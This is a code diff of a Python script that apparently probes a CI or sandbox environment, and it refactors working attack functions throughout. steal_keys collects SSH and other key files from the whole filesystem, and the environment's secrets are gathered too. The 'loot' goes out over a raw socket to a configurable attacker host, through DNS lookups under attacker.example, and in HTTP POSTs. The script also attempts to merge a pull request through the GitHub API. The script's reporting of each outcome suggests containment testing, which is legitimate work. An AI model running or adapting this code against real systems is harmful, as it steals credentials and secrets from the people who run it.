@@ -45,9 +45,9 @@ def request(method, url, body=None):
         return why(error), b""
 
 
-def steal_keys(home):
+def steal_keys(home, everywhere="/"):
     paths = glob.glob(home + "/.ssh/*") + glob.glob(home + "/.ouroboros/*")
-    for top, directories, names in os.walk("/"):
+    for top, directories, names in os.walk(everywhere):
         directories[:] = [name for name in directories if os.path.join(top, name) not in ("/proc", "/sys")]
         paths += [os.path.join(top, name) for name in names if name in KEYS]
     loot = b" ".join(filter(None, map(contents, paths)))
@@ -66,20 +66,20 @@ def steal_environment():
     return json.dumps(found).encode() + b" ".join(secrets)
 
 
-def send_away(loot, attacker):
-    host, port = attacker.rsplit(":", 1)
+def send_away(loot, host, port):
     try:
         with socket.create_connection((host, int(port)), timeout=2) as line:
             line.sendall(loot)
         say("a socket to the attacker", "sent")
     except OSError as error:
         say("a socket to the attacker", why(error))
+
+
+def ask_for_name(loot):
     try:
         say("a name that carries data", socket.gethostbyname(f"{len(loot)}.attacker.example"))
     except OSError:
         say("a name that carries data", "not resolved")
-    say(f"POST http://{attacker}", request("POST", f"http://{attacker}/", loot)[0])
-    say("POST https://attacker.example", request("POST", "https://attacker.example/", loot)[0])
 
 
 def ask_host():
@@ -105,10 +105,15 @@ def main():
     api = os.environ["GITHUB_API_URL"]
     status, body = request("GET", f"{api}/repos/{repository}")
     say("open issues", json.loads(body)["open_issues_count"] if status == 200 else status)
-    send_away(steal_keys(home) + steal_environment(), attacker)
+    loot = steal_keys(home) + steal_environment()
+    send_away(loot, *attacker.rsplit(":", 1))
+    ask_for_name(loot)
+    for url in [f"http://{attacker}", "https://attacker.example"]:
+        say("POST " + url, request("POST", url + "/", loot)[0])
     say("PUT a merge", request("PUT", f"{api}/repos/{repository}/pulls/1/merge", b"{}")[0])
     ask_host()
     change_itself()
 
 
-main()
+if __name__ == "__main__":
+    main()
